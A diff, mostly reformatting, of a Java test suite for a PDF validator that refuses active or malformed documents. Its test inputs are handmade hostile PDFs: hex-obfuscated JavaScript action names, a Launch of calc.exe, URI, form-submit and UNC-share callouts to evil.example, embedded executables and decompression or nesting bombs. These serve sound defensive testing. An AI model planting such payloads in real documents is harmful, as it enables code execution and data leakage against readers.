@@ -37,86 +37,118 @@ class PdfContentTest {
 
     @Test
     void a_scan_is_taken_and_so_is_what_leads_nowhere_but_to_its_own_pages() throws IOException {
-        assertThat(refusal(pdf(document -> { }))).isEmpty();
+        assertThat(refusal(pdf(document -> {}))).isEmpty();
         assertThat(refusal(pdf(document -> {
-            PDActionGoTo first = new PDActionGoTo();
-            PDPageFitDestination page = new PDPageFitDestination();
-            page.setPage(document.getPage(0));
-            first.setDestination(page);
-            document.getDocumentCatalog().setOpenAction(first);
-        }))).as("opens at a page").isEmpty();
+                    PDActionGoTo first = new PDActionGoTo();
+                    PDPageFitDestination page = new PDPageFitDestination();
+                    page.setPage(document.getPage(0));
+                    first.setDestination(page);
+                    document.getDocumentCatalog().setOpenAction(first);
+                })))
+                .as("opens at a page")
+                .isEmpty();
         assertThat(refusal(pdf(document -> {
-            PDPageFitDestination page = new PDPageFitDestination();
-            page.setPage(document.getPage(0));
-            document.getDocumentCatalog().setOpenAction(page);
-        }))).as("opens fitted").isEmpty();
+                    PDPageFitDestination page = new PDPageFitDestination();
+                    page.setPage(document.getPage(0));
+                    document.getDocumentCatalog().setOpenAction(page);
+                })))
+                .as("opens fitted")
+                .isEmpty();
         assertThat(refusal(pdf(document -> {
-            PDAnnotationLink link = new PDAnnotationLink();
-            PDActionURI uri = new PDActionURI();
-            uri.setURI("https://school.example/");
-            link.setAction(uri);
-            document.getPage(0).getAnnotations().add(link);
-        }))).as("has a link to click").isEmpty();
+                    PDAnnotationLink link = new PDAnnotationLink();
+                    PDActionURI uri = new PDActionURI();
+                    uri.setURI("https://school.example/");
+                    link.setAction(uri);
+                    document.getPage(0).getAnnotations().add(link);
+                })))
+                .as("has a link to click")
+                .isEmpty();
     }
 
     @Test
     void scripts_are_found_whatever_their_name_is_spelled_like() throws IOException {
-        for (String name : new String[] {"/JavaScript", "/J#61vaScript", "/#4A#61#76#61#53#63#72#69#70#74", "/JavaScr#69pt"}) {
-            assertThat(refusal(handmade("/OpenAction 4 0 R", "<</S " + name + "/JS (app.alert\\(1\\))>>"))).as(name).contains("document.active");
+        for (String name :
+                new String[] {"/JavaScript", "/J#61vaScript", "/#4A#61#76#61#53#63#72#69#70#74", "/JavaScr#69pt"}) {
+            assertThat(refusal(handmade("/OpenAction 4 0 R", "<</S " + name + "/JS (app.alert\\(1\\))>>")))
+                    .as(name)
+                    .contains("document.active");
         }
-        assertThat(refusal(handmade("/OpenAction<</S/L#61unch/F(calc.exe)>>", "<<>>"))).contains("document.active");
-        assertThat(refusal(handmade("/A#41<</WC<</S/URI/URI(http://evil.example)>>>>", "<<>>"))).contains("document.active");
-        assertThat(refusal(handmade("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", "<<>>"))).isEmpty();
-        assertThat(refusal(handmade("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example)>>>>", "<<>>"))).contains("document.active");
+        assertThat(refusal(handmade("/OpenAction<</S/L#61unch/F(calc.exe)>>", "<<>>")))
+                .contains("document.active");
+        assertThat(refusal(handmade("/A#41<</WC<</S/URI/URI(http://evil.example)>>>>", "<<>>")))
+                .contains("document.active");
+        assertThat(refusal(handmade("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", "<<>>")))
+                .isEmpty();
+        assertThat(refusal(handmade(
+                        "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example)>>>>", "<<>>")))
+                .contains("document.active");
         assertThat(refusal(handmade("/OpenAction<</S/Named/N/Print>>", "<<>>"))).contains("document.active");
-        assertThat(refusal(handmade("", "<</S/GoTo#52/F(\\\\evil.example\\share)>>"))).contains("document.active");
+        assertThat(refusal(handmade("", "<</S/GoTo#52/F(\\\\evil.example\\share)>>")))
+                .contains("document.active");
         assertThat(refusal(handmade("/AcroForm<</X#46A[(a)(b)]>>", "<<>>"))).contains("document.active");
-        assertThat(refusal(handmade("/Names<</Embedded#46iles<</Names[(a) 4 0 R]>>>>", "<</Type/Filespec/F(a.exe)>>"))).contains("document.active");
+        assertThat(refusal(handmade("/Names<</Embedded#46iles<</Names[(a) 4 0 R]>>>>", "<</Type/Filespec/F(a.exe)>>")))
+                .contains("document.active");
     }
 
     @Test
     void what_is_packed_away_in_streams_of_objects_is_found() throws IOException {
-        assertThat(refusal(pdf(document -> open(document, action("JavaScript", COSName.getPDFName("JS"), new COSString("app.alert(1)")))))).contains("document.active");
-        assertThat(refusal(pdf(document -> open(document, action("Launch", COSName.F, new COSString("calc.exe")))))).contains("document.active");
-        assertThat(refusal(pdf(document -> open(document, action("URI", COSName.getPDFName("URI"), new COSString("http://evil.example")))))).as("opens a page elsewhere").contains("document.active");
+        assertThat(refusal(pdf(document ->
+                        open(document, action("JavaScript", COSName.getPDFName("JS"), new COSString("app.alert(1)"))))))
+                .contains("document.active");
+        assertThat(refusal(pdf(document -> open(document, action("Launch", COSName.F, new COSString("calc.exe"))))))
+                .contains("document.active");
+        assertThat(refusal(pdf(document -> open(
+                        document, action("URI", COSName.getPDFName("URI"), new COSString("http://evil.example"))))))
+                .as("opens a page elsewhere")
+                .contains("document.active");
         assertThat(refusal(pdf(document -> {
-            COSDictionary actions = new COSDictionary();
-            actions.setItem("O", action("SubmitForm", COSName.F, new COSString("http://evil.example")));
-            document.getPage(0).getCOSObject().setItem(COSName.AA, actions);
-        }))).contains("document.active");
+                    COSDictionary actions = new COSDictionary();
+                    actions.setItem("O", action("SubmitForm", COSName.F, new COSString("http://evil.example")));
+                    document.getPage(0).getCOSObject().setItem(COSName.AA, actions);
+                })))
+                .contains("document.active");
         assertThat(refusal(pdf(document -> {
-            COSDictionary annotation = new COSDictionary();
-            annotation.setItem(COSName.TYPE, COSName.ANNOT);
-            annotation.setName(COSName.SUBTYPE, "RichMedia");
-            COSArray all = new COSArray();
-            all.add(annotation);
-            document.getPage(0).getCOSObject().setItem(COSName.ANNOTS, all);
-        }))).contains("document.active");
+                    COSDictionary annotation = new COSDictionary();
+                    annotation.setItem(COSName.TYPE, COSName.ANNOT);
+                    annotation.setName(COSName.SUBTYPE, "RichMedia");
+                    COSArray all = new COSArray();
+                    all.add(annotation);
+                    document.getPage(0).getCOSObject().setItem(COSName.ANNOTS, all);
+                })))
+                .contains("document.active");
         assertThat(refusal(pdf(document -> {
-            COSStream file = document.getDocument().createCOSStream();
-            file.setItem(COSName.TYPE, COSName.getPDFName("EmbeddedFile"));
-            COSDictionary files = new COSDictionary();
-            files.setItem(COSName.F, file);
-            COSDictionary specification = new COSDictionary();
-            specification.setItem(COSName.TYPE, COSName.FILESPEC);
-            specification.setItem(COSName.EF, files);
-            document.getDocumentCatalog().getCOSObject().setItem("AF", specification);
-        }))).contains("document.active");
+                    COSStream file = document.getDocument().createCOSStream();
+                    file.setItem(COSName.TYPE, COSName.getPDFName("EmbeddedFile"));
+                    COSDictionary files = new COSDictionary();
+                    files.setItem(COSName.F, file);
+                    COSDictionary specification = new COSDictionary();
+                    specification.setItem(COSName.TYPE, COSName.FILESPEC);
+                    specification.setItem(COSName.EF, files);
+                    document.getDocumentCatalog().getCOSObject().setItem("AF", specification);
+                })))
+                .contains("document.active");
         assertThat(refusal(pdf(document -> {
-            COSDictionary form = new COSDictionary();
-            form.setItem("XFA", new COSArray());
-            document.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
-        }))).contains("document.active");
+                    COSDictionary form = new COSDictionary();
+                    form.setItem("XFA", new COSArray());
+                    document.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
+                })))
+                .contains("document.active");
     }
 
     @Test
     void what_nobody_can_look_into_is_refused_in_words_of_its_own() throws IOException {
         assertThat(refusal(locked("secret"))).contains("document.pdf.locked");
-        assertThat(refusal(locked(""))).as("opens without a password, but not to everything").contains("document.pdf.locked");
+        assertThat(refusal(locked("")))
+                .as("opens without a password, but not to everything")
+                .contains("document.pdf.locked");
         assertThat(refusal("%PDF-".getBytes(StandardCharsets.US_ASCII))).contains("document.pdf.broken");
-        assertThat(refusal("%PDF-1.7\n1 0 obj\n<<".getBytes(StandardCharsets.US_ASCII))).contains("document.pdf.broken");
-        assertThat(refusal(handmade("/X(" + "stream ".repeat(100) + ")", "<<>>"))).as("a head that cannot be told from streams").contains("document.pdf.broken");
-        assertThat(refusal(("%PDF-1.7\n1 0 obj\n" + "[".repeat(200_000)).getBytes(StandardCharsets.US_ASCII))).contains("document.pdf.broken");
+        assertThat(refusal("%PDF-1.7\n1 0 obj\n<<".getBytes(StandardCharsets.US_ASCII)))
+                .contains("document.pdf.broken");
+        assertThat(refusal(handmade("/X(" + "stream ".repeat(100) + ")", "<<>>")))
+                .as("a head that cannot be told from streams")
+                .contains("document.pdf.broken");
+        assertThat(refusal(("%PDF-1.7\n1 0 obj\n" + "[".repeat(200_000)).getBytes(StandardCharsets.US_ASCII)))
+                .contains("document.pdf.broken");
     }
 
     @Test
@@ -130,11 +162,15 @@ class PdfContentTest {
             }
         }
         ByteArrayOutputStream file = new ByteArrayOutputStream();
-        file.writeBytes(("%PDF-1.5\n1 0 obj\n<</Type/Obj#53tm/N 1/F#69rst 4/Filter/FlateDecode/Length " + packed.size() + ">>\nstream\n").getBytes(StandardCharsets.US_ASCII));
+        file.writeBytes(("%PDF-1.5\n1 0 obj\n<</Type/Obj#53tm/N 1/F#69rst 4/Filter/FlateDecode/Length " + packed.size()
+                        + ">>\nstream\n")
+                .getBytes(StandardCharsets.US_ASCII));
         file.writeBytes(packed.toByteArray());
         file.writeBytes("\nendstream\nendobj\ntrailer\n<</Root 2 0 R>>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));
         assertThat(refusal(file.toByteArray())).contains("document.pdf.too-large");
-        assertThat(refusal(handmade("", "[" + "<<>>".repeat(400_000) + "]"))).as("a reader makes a hundred bytes of four").contains("document.pdf.too-large");
+        assertThat(refusal(handmade("", "[" + "<<>>".repeat(400_000) + "]")))
+                .as("a reader makes a hundred bytes of four")
+                .contains("document.pdf.too-large");
     }
 
     private static Optional<String> refusal(byte[] content) {
@@ -177,14 +213,21 @@ class PdfContentTest {
         PDPage page = new PDPage(PDRectangle.A4);
         document.addPage(page);
         try (PDPageContentStream content = new PDPageContentStream(document, page)) {
-            content.drawImage(JPEGFactory.createFromImage(document, new BufferedImage(600, 800, BufferedImage.TYPE_INT_RGB)), 0, 0, 595, 842);
+            content.drawImage(
+                    JPEGFactory.createFromImage(document, new BufferedImage(600, 800, BufferedImage.TYPE_INT_RGB)),
+                    0,
+                    0,
+                    595,
+                    842);
         }
     }
 
     /** A page written by hand. @param catalog what its catalog says besides; @param fourth its fourth object */
     private static byte[] handmade(String catalog, String fourth) {
-        return ("%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R" + catalog + ">>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
-                + "3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>\nendobj\n4 0 obj\n" + fourth + "\nendobj\ntrailer\n<</Root 1 0 R/Size 5>>\n%%EOF\n")
+        return ("%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R" + catalog
+                        + ">>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
+                        + "3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>\nendobj\n4 0 obj\n" + fourth
+                        + "\nendobj\ntrailer\n<</Root 1 0 R/Size 5>>\n%%EOF\n")
                 .getBytes(StandardCharsets.US_ASCII);
     }
 }
